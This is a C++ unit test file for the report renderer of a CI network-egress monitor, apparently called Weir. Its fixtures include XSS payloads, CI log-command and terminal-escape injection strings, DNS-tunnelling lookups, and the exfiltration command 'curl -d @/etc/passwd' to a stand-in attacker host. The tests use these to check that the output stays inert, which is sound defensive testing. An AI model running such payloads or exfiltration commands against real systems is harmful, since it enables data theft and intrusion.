// SPDX-License-Identifier: Apache-2.0
// Structure, not looks: documents are parsed, and nothing that a job chose may act in them.
#include "collector/report/render.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <nlohmann/json.hpp>
#include <regex>
#include <set>

#include "collector/report/build.h"
#include "collector/report/refused.h"
#include "tests/unit/report/evidence.h"

namespace weir::report {
namespace {

using nlohmann::json;
using testing::HasSubstr;
using testing::Not;
using testing::StartsWith;

// Something for every reader at once.
const char kHostile[] =
    "</code></title></script><script>alert(1)</script>\"'><img src=x onerror=alert(1)>\n::error file=x::owned\n"
    "| a | b |\n```\n@example/team [x](https://evil.example.org) ##[error]y \x1b[2J\x1b]0;t\x07 \u202eabc \xff\xfe";

store::JobEvidence HostileJob() {
  store::JobEvidence job = PoisonedBuild();
  store::JobBegin& begin = job.job.begin;
  // What protobuf strings carry is UTF-8; bytes may be anything.
  const std::string text = std::string(kHostile, sizeof(kHostile) - 3);
  begin.name = begin.host = begin.kernel = begin.policy_text = begin.policy_digest = begin.cgroup = text;
  begin.labels = {{text, text}};
  begin.command = {kHostile, kHostile};
  job.job.sensor = text;
  job.job.end.record =
      RecordJson(true, false, 2, ",\"reasons\":[" + json(text).dump() + "],\"event_digest\":" + json(text).dump());
  for (store::StoredExec& process : job.processes.processes) {
    process.exec.executable = process.exec.cwd = process.exec.comm = kHostile;
    process.exec.arguments = {kHostile, kHostile};
  }
  for (auto& [key, image] : job.flows.images) {
    image.executable = kHostile;
    image.arguments = {kHostile, kHostile};
  }
  for (store::StoredFlow& flow : job.flows.flows) {
    flow.flow.name = flow.flow.rule = flow.flow.socket_kind = flow.flow.key.why = text;
    flow.flow.comm = kHostile;
    flow.query_type = text;
    flow.step = {2, kHostile};
  }
  for (store::StoredExec& process : job.processes.processes) process.step = {2, kHostile};
  job.findings.push_back({{text, text, 1, 2, kHostile}, 3, {2, kHostile}});
  job.steps = {{{1, kHostile}, kHostile, kHostile, 1}, {{2, kHostile}, "", kHostile, 1}};
  return job;
}

store::JobEvidence LargeJob(std::uint32_t flows) {
  store::JobEvidence job = FinishedJob(RecordJson(true, true, flows / 2));
  AddProcess(job, 1, 0, "/usr/bin/scan", {"scan"});
  for (std::uint32_t i = 0; i < flows; ++i) {
    const std::string address =
        "10." + std::to_string(i >> 16) + "." + std::to_string(i >> 8 & 255) + "." + std::to_string(i & 255);
    // Each on a port of its own: else all would be told as one scan.
    AddFlow(job, 1, "", address, i % 2 == 0 ? store::Verdict::kDeny : store::Verdict::kAllow, "no-rule", i)
        .flow.key.port = i + 1;
  }
  return job;
}

void ExpectNoControls(const std::string& document) {
  for (std::size_t i = 0; i < document.size(); ++i) {
    const auto byte = static_cast<unsigned char>(document[i]);
    ASSERT_TRUE(byte >= 0x20 || byte == '\n') << "byte " << int{byte} << " at " << i;
    ASSERT_NE(byte, 0x7f) << i;
  }
  EXPECT_THAT(document, Not(HasSubstr("\u202e")));
  EXPECT_THAT(document, Not(HasSubstr("##[")));
  EXPECT_FALSE(std::regex_search(document, std::regex(R"((^|\n)\s*::[a-z])"))) << document.substr(0, 400);
}

/// Every element that is opened is closed in order; none has an attribute that loads, runs or styles. Void elements
/// stand alone.
std::string HtmlFault(const std::string& document) {
  static const std::set<std::string> kVoid = {"meta", "br", "!doctype", "line", "rect"};
  std::vector<std::string> open;
  for (std::size_t at = document.find('<'); at != std::string::npos; at = document.find('<', at)) {
    std::size_t end = at;
    for (char quote = 0; end < document.size() && (quote != 0 || document[end] != '>'); ++end) {
      if (document[end] == '"') quote = quote == 0 ? '"' : char{0};
    }
    const std::string tag = document.substr(at + 1, end - at - 1);
    at = end;
    const std::string attributes = std::regex_replace(tag, std::regex("\"[^\"]*\""), "");
    if (std::regex_search(attributes, std::regex(R"(\b(src|href|style|on\w+)\s*=)"))) return "<" + tag + "> acts";
    const std::string name = tag.substr(0, tag.find_first_of(" />\n", 1));
    if (name.starts_with("/")) {
      if (open.empty() || "/" + open.back() != name) return "unexpected <" + tag + ">";
      open.pop_back();
    } else if (!kVoid.contains(name) && !tag.ends_with("/")) {
      open.push_back(name);
    }
  }
  return open.empty() ? "" : "<" + open.back() + "> stays open";
}

TEST(Json, HoldsEverythingInAStableOrder) {
  const std::string text = RenderJson(BuildReport(PoisonedBuild()));
  EXPECT_THAT(text, StartsWith("{\n \"schema\": \"weir.report.v1\",\n \"job\": {"));
  const json report = json::parse(text);
  EXPECT_EQ(report["summary"]["stamp"], "DENIED");
  EXPECT_EQ(report["summary"]["counts"]["denied"], 4);
  EXPECT_EQ(report["refused"].size(), 2U);
  EXPECT_EQ(report["refused"][1]["query_type"], "A");
  EXPECT_EQ(report["refused"][0]["ancestry"].size(), 4U);
  EXPECT_EQ(report["allowed"].size(), 3U);
  EXPECT_EQ(report["destinations"][0]["bytes_out"], 50'000'000);
  EXPECT_EQ(report["processes"].size(), 5U);
  EXPECT_EQ(report["record"]["armed"], true);
  EXPECT_EQ(RenderJson(BuildReport(PoisonedBuild())), text);
}

TEST(Json, IsAsciiWithoutCommandsWhateverTheJobIsCalled) {
  const std::string text = RenderJson(BuildReport(HostileJob()));
  ExpectNoControls(text);
  for (const char c : text) ASSERT_LT(static_cast<unsigned char>(c), 0x80);
  const json report = json::parse(text);
  const std::string argument = report["processes"][0]["arguments"][0];
  EXPECT_THAT(argument, HasSubstr("\x1b[2J"));     // values are kept for programs
  EXPECT_THAT(argument, HasSubstr("\\xff\\xfe"));  // what is no UTF-8 is spelled
  EXPECT_THAT(argument, HasSubstr("##[error]y"));
}

TEST(Json, KeepsIdsThatNeed64Bits) {
  store::JobEvidence job = FinishedJob(RecordJson(true, true, 0));
  AddProcess(job, ~0ull, 0, "/a", {});
  EXPECT_EQ(json::parse(RenderJson(BuildReport(std::move(job))))["processes"][0]["exec_id"], "18446744073709551615");
}

TEST(Markdown, BeginsWithTheVerdict) {
  EXPECT_THAT(RenderMarkdown(BuildReport(PoisonedBuild())), StartsWith("## Weir: DENIED\n"));
  EXPECT_THAT(RenderMarkdown(BuildReport(FinishedJob(RecordJson(true, true, 0)))), StartsWith("## Weir: CLEAN\n"));
  EXPECT_THAT(RenderMarkdown(BuildReport(FinishedJob(RecordJson(false, false, 0)))),
              StartsWith("## Weir: NOT WATCHED\n"));
  store::JobEvidence unfinished = FinishedJob("");
  unfinished.job.end_ns = 0;
  const std::string text = RenderMarkdown(BuildReport(std::move(unfinished)));
  EXPECT_THAT(text, StartsWith("## Weir: UNFINISHED\n"));
  EXPECT_THAT(text, HasSubstr("| unknown | unknown | unknown |"));
}

TEST(Markdown, NamesProcessArgumentsAncestryDestinationAndReason) {
  const std::string text = RenderMarkdown(BuildReport(PoisonedBuild()));
  for (const char* piece : {"`curl -d @/etc/passwd https://evil.example.org/`",
                            "`/usr/bin/bash > /usr/bin/node > "
                            "/usr/bin/dash > /usr/bin/curl`",
                            "`203.0.113.66`", "`lookup of evil.example.org A`", "`no rule allows it`",
                            "`registry.example.org:443/tcp`", "48 MiB"}) {
    EXPECT_THAT(text, HasSubstr(piece));
  }
}

TEST(Markdown, KeepsEveryTableWholeWhateverTheJobIsCalled) {
  const std::string text = RenderMarkdown(BuildReport(HostileJob()));
  ExpectNoControls(text);
  std::istringstream lines(text);
  std::size_t columns = 0;
  for (std::string line; std::getline(lines, line);) {
    if (!line.starts_with("|")) {
      columns = 0;
      continue;
    }
    std::size_t bars = 0;
    for (std::size_t i = 0; i < line.size(); ++i) bars += line[i] == '|' && (i == 0 || line[i - 1] != '\\');
    if (columns == 0) columns = bars;
    EXPECT_EQ(bars, columns) << line;
  }
  // Outside code spans nothing of the job is left.
  const std::string prose = std::regex_replace(text, std::regex("(`+)[^\\n]*?[^`]\\1(?!`)"), "");
  EXPECT_THAT(prose, Not(HasSubstr("<")));
  EXPECT_THAT(prose, Not(HasSubstr("@")));
  EXPECT_THAT(prose, Not(HasSubstr("](")));
}

TEST(Markdown, BoundsItsTables) {
  const std::string text = RenderMarkdown(BuildReport(LargeJob(65535)));
  EXPECT_LT(text.size(), 65536U);
  EXPECT_THAT(text, HasSubstr("and 32,718 more refused contacts"));
  EXPECT_THAT(text, HasSubstr("and 32,717 more destinations"));
}

TEST(Html, IsOneWellFormedFileWithoutScriptsOrOutsideResources) {
  for (store::JobEvidence job :
       {PoisonedBuild(), HostileJob(), LargeJob(3000), FinishedJob(""), FinishedJob(RecordJson(true, true, 0))}) {
    const std::string text = RenderHtml(BuildReport(std::move(job)));
    EXPECT_EQ(HtmlFault(text), "");
    EXPECT_THAT(text, Not(HasSubstr("<script")));
    EXPECT_THAT(text, Not(HasSubstr("<img")));
    EXPECT_THAT(text, Not(HasSubstr("<link")));
    EXPECT_THAT(text, Not(HasSubstr(" style=")));
    EXPECT_THAT(text, Not(HasSubstr("url(")));
    EXPECT_THAT(text, HasSubstr("Content-Security-Policy\" content=\"default-src 'none'; style-src 'sha256-"));
  }
}

TEST(Html, LetsNothingOfTheJobAct) {
  const std::string text = RenderHtml(BuildReport(HostileJob()));
  ExpectNoControls(text);
  EXPECT_THAT(text, HasSubstr("&lt;script&gt;alert(1)"));
}

TEST(Html, SaysTheVerdictInWordsAndSigns) {
  const std::string text = RenderHtml(BuildReport(PoisonedBuild()));
  EXPECT_THAT(text, HasSubstr("<title>DENIED: build (Weir)</title>"));
  EXPECT_THAT(text, HasSubstr("✕"));
  EXPECT_THAT(text, HasSubstr("class=\"deny\""));
  EXPECT_THAT(text, HasSubstr("<details open>"));
  EXPECT_THAT(RenderHtml(BuildReport(FinishedJob(RecordJson(false, false, 0)))),
              HasSubstr("<title>NOT WATCHED: build"));
}

TEST(Html, BeginsWithWhoTriedWhat) {
  const std::string text = RenderHtml(BuildReport(PoisonedBuild()));
  const std::size_t stamp = text.find("DENIED</p>"), who = text.find("<ul class=\"culprits\">");
  ASSERT_NE(stamp, text.npos);
  ASSERT_NE(who, text.npos);
  EXPECT_LT(stamp, who);
  EXPECT_LT(who, text.find("Where it went"));
  EXPECT_THAT(text.substr(who), HasSubstr("<code>curl</code> tried to reach <code>203.0.113.66</code>"));
  EXPECT_THAT(text.substr(who), HasSubstr("bash › node › dash › curl"));
  EXPECT_THAT(RenderHtml(BuildReport(FinishedJob(RecordJson(true, true, 0)))), Not(HasSubstr("class=\"culprits\"")));
}

// What one person does once: a name is asked for A and AAAA, and tried at each of its addresses.
TEST(Refused, JoinsWhatIsOneAttempt) {
  store::JobEvidence job = FinishedJob(RecordJson(true, true, 0));
  AddProcess(job, 1, 0, "/usr/bin/curl", {"curl"});
  for (const char* type : {"A", "AAAA"}) {
    store::StoredFlow& lookup = AddFlow(job, 1, "a.example.org", "192.0.2.53", store::Verdict::kWouldDeny, "dns-name");
    lookup.flow.key.hook = store::Hook::kDns;
    lookup.query_type = type;
  }
  AddFlow(job, 1, "a.example.org", "203.0.113.1", store::Verdict::kWouldDeny, "no-rule");
  AddFlow(job, 1, "a.example.org", "2001:db8::1", store::Verdict::kWouldDeny, "no-rule");
  AddFlow(job, 1, "a.example.org", "203.0.113.1", store::Verdict::kDeny, "no-rule");
  const JobReport report = BuildReport(std::move(job));
  const auto attempts = Attempts(report);
  ASSERT_EQ(attempts.size(), 3U) << "a denial is not joined with what was let through";
  EXPECT_EQ(attempts[0].first->verdict(), store::Verdict::kDeny);
  EXPECT_EQ(attempts[1].title, "lookup of a.example.org A, AAAA");
  EXPECT_EQ(attempts[1].times, 6U);
  EXPECT_EQ(attempts[2].title, "a.example.org:443/tcp");
  EXPECT_THAT(attempts[2].addresses, testing::ElementsAre("203.0.113.1", "2001:db8::1"));
  const std::string html = RenderHtml(report);
  EXPECT_THAT(html, HasSubstr("✕ a.example.org:443/tcp</text>"));
  EXPECT_THAT(html, Not(HasSubstr("lookup of a.example.org</text>"))) << "the picture draws the connection";
  EXPECT_THAT(RenderMarkdown(report), HasSubstr("`203.0.113.1`, `2001:db8::1`"));
}

TEST(Refused, TellsAScanAndALeakThroughDnsInOneLineEach) {
  store::JobEvidence job = FinishedJob(RecordJson(true, true, 61));
  AddProcess(job, 1, 0, "/usr/bin/scan", {"scan"});
  for (int i = 0; i < 60; ++i) {
    AddFlow(job, 1, "", "198.18.0." + std::to_string(i), store::Verdict::kDeny, "no-rule");
    store::StoredFlow& lookup = AddFlow(job, 1, "c2VjcmV0" + std::to_string(i) + ".drop.example.net", "192.0.2.53",
                                        store::Verdict::kDeny, "dns-name");
    lookup.flow.key.hook = store::Hook::kDns;
    lookup.query_type = "TXT";
  }
  AddFlow(job, 1, "", "198.18.0.1", store::Verdict::kDeny, "no-rule").flow.key.port = 22;
  const JobReport report = BuildReport(std::move(job));
  const auto attempts = Attempts(report);
  ASSERT_EQ(attempts.size(), 3U);
  EXPECT_EQ(attempts[0].title, "60 addresses, port 443/tcp");
  EXPECT_EQ(attempts[0].contacts, 60U);
  EXPECT_EQ(attempts[1].title, "lookups of 60 names below drop.example.net");
  EXPECT_THAT(attempts[1].examples, testing::Contains("c2VjcmV00.drop.example.net"));
  EXPECT_EQ(attempts[2].title, "198.18.0.1:22/tcp");
  EXPECT_THAT(RenderHtml(report), HasSubstr("such as <code>198.18.0.0</code>"));
  EXPECT_THAT(RenderMarkdown(report), HasSubstr("`lookups of 60 names below drop.example.net`"));
}

TEST(Refused, CountsRepeatedAncestors) {
  Contact contact;
  contact.ancestry = {"/bin/bash", "/bin/x", "/usr/bin/x", "/bin/x", "/bin/a", "/bin/a", "/bin/b"};
  EXPECT_EQ(AncestryLine(contact), "bash › x × 3 › a › a › b");
}

// "51 more destinations, denied" must not hide one that was allowed.
TEST(Html, NeverJoinsWhatWasDeniedWithWhatWasAllowed) {
  store::JobEvidence job = FinishedJob(RecordJson(true, true, 100));
  AddProcess(job, 1, 0, "/usr/bin/scan", {"scan"});
  for (int i = 0; i < 100; ++i) {
    AddFlow(job, 1, "d" + std::to_string(i) + ".example.net", "198.18.0.1", store::Verdict::kDeny, "no-rule");
  }
  for (int i = 0; i < 3; ++i) {
    AddFlow(job, 1, "a" + std::to_string(i) + ".example.org", "198.18.1.1", store::Verdict::kAllow, "name", 10);
  }
  std::string text = RenderHtml(BuildReport(job));
  for (const char* label :
       {">a0.example.org:443/tcp</text>", ">a2.example.org:443/tcp</text>", "✕ 88 more destinations"})
    EXPECT_THAT(text, HasSubstr(label));
  for (int i = 3; i < 100; ++i) {
    AddFlow(job, 1, "a" + std::to_string(i) + ".example.org", "198.18.1.1", store::Verdict::kAllow, "name", 10);
  }
  text = RenderHtml(BuildReport(job));
  EXPECT_THAT(text, HasSubstr(">90 more destinations</text>"));
  EXPECT_EQ(HtmlFault(text), "");
}

TEST(Html, StaysBoundedForTheLargestJob) {
  store::JobEvidence job = LargeJob(65535);
  for (std::uint64_t i = 2; i < 20000; ++i) AddProcess(job, i, i % 500 + 1, "/p" + std::to_string(i), {"x"});
  const std::string text = RenderHtml(BuildReport(std::move(job)));
  EXPECT_LT(text.size(), std::size_t{4} << 20);
  EXPECT_THAT(text, HasSubstr("and 32,268 more refused contacts"));
  EXPECT_THAT(text, HasSubstr("are drawn"));
}

TEST(Html, DrawsADeepChainWithoutNestingWithoutEnd) {
  store::JobEvidence job = FinishedJob(RecordJson(true, true, 0));
  for (std::uint64_t i = 1; i <= 5000; ++i) AddProcess(job, i, i - 1, "/p", {"p"});
  const std::string text = RenderHtml(BuildReport(std::move(job)));
  EXPECT_EQ(HtmlFault(text), "");
  EXPECT_THAT(text, HasSubstr("deeper processes"));
}

TEST(Html, JoinsQuietLeavesOfOneProgram) {
  store::JobEvidence job = FinishedJob(RecordJson(true, true, 0));
  AddProcess(job, 1, 0, "/usr/bin/make", {"make"});
  for (std::uint64_t i = 2; i < 102; ++i) AddProcess(job, i, 1, "/usr/bin/cc1plus", {"cc1plus"});
  EXPECT_THAT(RenderHtml(BuildReport(std::move(job))), HasSubstr("× 100"));
}

TEST(Sarif, HasOneRuleForEachWhyAndResultsWithFingerprints) {
  const json sarif = json::parse(RenderSarif(BuildReport(PoisonedBuild()), ".github/egress.yml"));
  EXPECT_EQ(sarif["version"], "2.1.0");
  const json& run = sarif["runs"][0];
  const json& rules = run["tool"]["driver"]["rules"];
  ASSERT_EQ(run["results"].size(), 2U);
  EXPECT_EQ(rules.size(), 2U);
  std::set<std::string> fingerprints;
  for (const json& result : run["results"]) {
    EXPECT_EQ(rules[result["ruleIndex"].get<std::size_t>()]["id"], result["ruleId"]);
    EXPECT_EQ(result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"], ".github/egress.yml");
    fingerprints.insert(result["partialFingerprints"]["weirContact/v1"].get<std::string>());
  }
  EXPECT_EQ(fingerprints.size(), 2U);
  EXPECT_EQ(run["invocations"][0]["executionSuccessful"], true);
}

TEST(Sarif, GivesTheSameLeakTheSameFingerprintInTheNextRun) {
  const auto fingerprint = [](std::uint32_t pid, std::int64_t time, const char* address) {
    store::JobEvidence job = FinishedJob(RecordJson(true, true, 1));
    AddProcess(job, pid, 0, "/usr/bin/curl", {"curl", std::to_string(pid)});
    store::StoredFlow& flow = AddFlow(job, pid, "evil.example.org", address, store::Verdict::kDeny, "no-rule");
    flow.totals.first_ns = time;
    const json sarif = json::parse(RenderSarif(BuildReport(std::move(job)), "p"));
    return sarif["runs"][0]["results"][0]["partialFingerprints"]["weirContact/v1"].get<std::string>();
  };
  EXPECT_EQ(fingerprint(1, 5, "203.0.113.1"), fingerprint(77, 9, "203.0.113.2"));
}

TEST(Sarif, IsNeverEmptyWhenNobodyWatched) {
  for (const std::string& record : {std::string(), RecordJson(false, false, 0), RecordJson(true, false, 0)}) {
    const json sarif = json::parse(RenderSarif(BuildReport(FinishedJob(record)), "p"));
    ASSERT_EQ(sarif["runs"][0]["results"].size(), 1U) << record;
    EXPECT_EQ(sarif["runs"][0]["results"][0]["ruleId"], "weir/not-proven");
    EXPECT_EQ(sarif["runs"][0]["invocations"][0]["executionSuccessful"], false);
  }
}

TEST(Sarif, StaysWithinGitHubsLimitsAndMakesNoLinks) {
  const json large = json::parse(RenderSarif(BuildReport(LargeJob(65535)), "p"));
  EXPECT_LE(large["runs"][0]["results"].size(), 5000U);
  const std::string text = RenderSarif(BuildReport(HostileJob()), "p");
  ExpectNoControls(text);
  const json hostile = json::parse(text);
  ASSERT_EQ(hostile["runs"][0]["results"].size(), 3U);  // two contacts, and the job that is not proven
  for (const json& result : hostile["runs"][0]["results"]) {
    EXPECT_THAT(result["message"]["text"].get<std::string>(), Not(HasSubstr("[x](")));
  }
}

}  // namespace
}  // namespace weir::report
